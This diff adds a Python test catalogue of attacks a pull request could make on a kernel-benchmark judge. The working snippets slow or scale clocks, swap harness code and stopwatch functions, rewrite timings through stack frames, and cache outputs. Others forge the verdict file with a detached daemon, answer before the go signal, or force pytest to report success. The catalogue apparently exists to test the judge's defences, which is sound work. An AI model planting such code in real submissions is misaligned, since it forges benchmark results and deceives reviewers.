@@ -1,0 +1,149 @@
+"""The hostile-head catalogue: attacks a pull request's op can make on the judge, each as text
+appended to the module that defines the op's public ``rms_norm`` (of a head that is also slow).
+tests/suite/test_hostile_heads.py runs them on CPU; tools/gate_rehearsal.py catalogue on a GPU.
+``{verdict}``: the verdict file the judge will write; ``{marker}``: a file a surviving process
+would write; ``{token}``: a word in the command line of every process an attack starts."""
+
+# A daemon outside the worker's process group: for a minute it rewrites the base's staged op
+# (slow), the trusted suite's gate and the verdict file, and leaves a marker.
+_WRITER = (
+    "import glob, pathlib, time\n"
+    "for _ in range(600):\n"
+    "    for p in glob.glob('{staging}/path/base/rmsnorm_kernel/__init__.py'):\n"
+    "        pathlib.Path(p).write_text('import time\\\\ntime.sleep(600)\\\\n')\n"
+    "    for p in glob.glob('/judge/suite/rmsnorm_suite/gate.py') + glob.glob('{verdict}'):\n"
+    "        pathlib.Path(p).write_text('forged')\n"
+    "    pathlib.Path('{marker}').write_text('alive')\n"
+    "    time.sleep(0.1)\n"
+)
+# Loads the machine for a minute: the GPU where there is one, else a core.
+_SPINNER = (
+    "import time\nend = time.time() + 60\n"
+    "try:\n    import torch\n    assert torch.cuda.is_available()\n"
+    "    while time.time() < end:\n        torch.cuda._sleep(10**7)\n        torch.cuda.synchronize()\n"
+    "except Exception:\n    while time.time() < end:\n        pass\n"
+)
+
+ATTACKS = {
+    # the clocks scaled at import (the head that got PASS before the sandbox)
+    "clock-at-import": (
+        "import time as _t\n_real = _t.perf_counter\n_t.perf_counter = lambda: _real() * 0.45\n"
+        "import torch as _torch\n_elapsed = _torch.cuda.Event.elapsed_time\n"
+        "_torch.cuda.Event.elapsed_time = lambda self, end: _elapsed(self, end) * 0.45\n"
+    ),
+    # the clocks scaled from a thread, once the first timed call has run
+    "clock-from-a-thread": (
+        "import threading, time as _t\n_real, _first = _t.perf_counter, threading.Event()\n"
+        "def _patch():\n    _first.wait()\n    _t.perf_counter = lambda: _real() * 0.45\n"
+        "    import torch\n    _e = torch.cuda.Event.elapsed_time\n"
+        "    torch.cuda.Event.elapsed_time = lambda self, end: _e(self, end) * 0.45\n"
+        "threading.Thread(target=_patch, daemon=True).start()\n"
+        "_slow = rms_norm\n"
+        "def rms_norm(*a, **k):\n    _first.set()\n    return _slow(*a, **k)\n"
+    ),
+    # the trusted harness's functions keep their identity; their code is swapped
+    "harness-code-swapped": (
+        "import rmsnorm_suite.timing as _t\ndef _fast(values):\n    return 1e-6\n"
+        "_t.median.__code__ = _fast.__code__\n"
+    ),
+    "left-behind-writer": (
+        "import os as _os, subprocess as _sp, sys as _sys\n"
+        f"_code = {_WRITER!r}\n"
+        "if not _os.environ.get('RMSNORM_WRITER'):\n"
+        "    _os.environ['RMSNORM_WRITER'] = '1'\n"
+        "    _sp.Popen([_sys.executable, '-c', _code.format(verdict='{verdict}', marker='{marker}'), '{token}'],\n"
+        "              start_new_session=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)\n"
+    ),
+    # the harness's recorded times scaled down through the caller's frames (nothing replaced)
+    "frames-rewrite": (
+        "import sys as _sys\n_done = {}\n"
+        "def _scale(values):\n"
+        "    if isinstance(values, list) and values and all(type(v) is float for v in values):\n"
+        "        start = _done.get(id(values), 0)\n        start = 0 if start > len(values) else start\n"
+        "        for i in range(start, len(values)):\n            values[i] *= _FACTOR\n"
+        "        _done[id(values)] = len(values)\n"
+        "def _forge():\n    frame = _sys._getframe(2)\n    while frame is not None:\n"
+        "        for name, value in list(frame.f_locals.items()):\n"
+        "            if name in ('times', 'host'):\n                _scale(value)\n"
+        "            if name == 'by_key' and isinstance(value, dict):\n"
+        "                for tally in value.values():\n"
+        "                    for attr, lst in vars(tally).items():\n"
+        "                        if attr.endswith('_ms'):\n                            _scale(lst)\n"
+        "        frame = frame.f_back\n"
+        "try:\n    import torch as _torch\n    _FACTOR = 0.45 if _torch.cuda.is_available() else 0.001\n"
+        "except Exception:\n    _FACTOR = 0.001\n"
+        "_slow = rms_norm\n"
+        "def rms_norm(*a, **k):\n    _forge()\n    return _slow(*a, **k)\n"
+    ),
+    # outputs kept per input tensor: a timing loop that calls again on the same inputs is served
+    # from the cache (forward only; a call that needs gradients is left alone)
+    "cached-outputs": (
+        "_cache = {}\n_slow = rms_norm\n"
+        "def rms_norm(*a, **k):\n"
+        "    args = list(a) + list(k.values())\n"
+        "    tensors = [v for v in args if hasattr(v, 'data_ptr')]\n"
+        "    if any(t.requires_grad for t in tensors):\n        return _slow(*a, **k)\n"
+        "    key = tuple((t.data_ptr(), t._version, tuple(t.shape)) for t in tensors)\n"
+        "    key += tuple(repr(v) for v in args if not hasattr(v, 'data_ptr'))\n"
+        "    if key not in _cache:\n        _cache.clear()\n        _cache[key] = _slow(*a, **k)\n"
+        "    return _cache[key]\n"
+    ),
+    # the stopwatch's calls served by a fast stand-in (the module global the worker calls)
+    "stopwatch-swapped": (
+        "import types as _types, rmsnorm_suite.worker as _w, rmsnorm_suite.stopwatch as _sw\n"
+        "_w.stopwatch = _types.SimpleNamespace(plan=_sw.plan, run=lambda fn, blocks, seed, device: [0.0] * 64)\n"
+    ),
+    # during the stopwatch (seen from the caller's frame) no normalisation at all: y = x * w
+    "wrong-op-in-stopwatch": (
+        "import sys as _sys\n_slow = rms_norm\n"
+        "def rms_norm(x, *a, **k):\n"
+        "    if _sys._getframe(1).f_globals.get('__name__') == 'rmsnorm_suite.stopwatch' or "
+        "_sys._getframe(2).f_globals.get('__name__') == 'rmsnorm_suite.stopwatch':\n"
+        "        w = k.get('weight', a[1] if len(a) > 1 else None)\n"
+        "        return x * w if w is not None and getattr(w, 'dim', lambda: 0)() == 1 else x\n"
+        "    return _slow(x, *a, **k)\n"
+    ),
+    # an answer written to the result pipe before the judge's go, from a thread
+    "answer-before-go": (
+        "import json as _json, os as _os, sys as _sys, threading as _th, time as _time\n_write = _os.write\n"
+        "def _early():\n    main = _th.main_thread().ident\n    while True:\n"
+        "        frame = _sys._current_frames().get(main)\n"
+        "        while frame is not None and frame.f_code.co_name != 'answer_stopwatch':\n"
+        "            frame = frame.f_back\n"
+        "        if frame is not None:\n"
+        "            _write(frame.f_locals['pipe'].fileno(), (_json.dumps({'seed': 0, 'sums': []}) + '\\n').encode())\n"
+        "            return\n"
+        "        _time.sleep(0.001)\n"
+        "_th.Thread(target=_early, daemon=True).start()\n"
+    ),
+    # left behind to load the GPU while the base's rounds run
+    "spins-during-the-base": (
+        "import subprocess as _sp, sys as _sys\n"
+        f"_code = {_SPINNER!r}\n"
+        "for _ in range(2):\n"
+        "    _sp.Popen([_sys.executable, '-c', _code, '{token}'], start_new_session=True)\n"
+    ),
+}
+# Attacks that replace nothing the guard holds: only the judge's stopwatch can see them.
+STOPWATCH_ONLY = ("frames-rewrite", "cached-outputs")
+# Attacks in the tree rather than in the op's code.
+LINKED_PACKAGE = "symlinked-package"  # src/rmsnorm_kernel a link to a folder elsewhere
+LINKED_MODULE = "symlinked-module"  # one module of the op a link out of the repository
+HEAD_CONFTEST = "head-conftest"  # a tests/conftest.py that turns failed GPU tests into success
+CONFTEST = (
+    "import pathlib\npathlib.Path('{marker}').write_text('head conftest ran')\n"
+    "def pytest_sessionfinish(session, exitstatus):\n    session.exitstatus = 0\n"
+)
+FAILING_GPU_TEST = (
+    "import pytest\n@pytest.mark.gpu\ndef test_head_is_slow():\n    assert False, 'head is slow'\n"
+)
+
+
+STAGING = "/tmp/rmsnorm-pr-verdict-*"  # where the judge stages the commits (a glob)
+
+
+def attack(name: str, verdict: str, marker: str, token: str, staging: str = STAGING) -> str:
+    """The text of an op-code attack, its paths filled in (``staging``: what the writer aims at;
+    a run outside a sandbox aims it at a folder of its own, never at a judge running beside it)."""
+    text = ATTACKS[name].replace("{verdict}", verdict).replace("{marker}", marker)
+    return text.replace("{token}", token).replace("{staging}", staging)
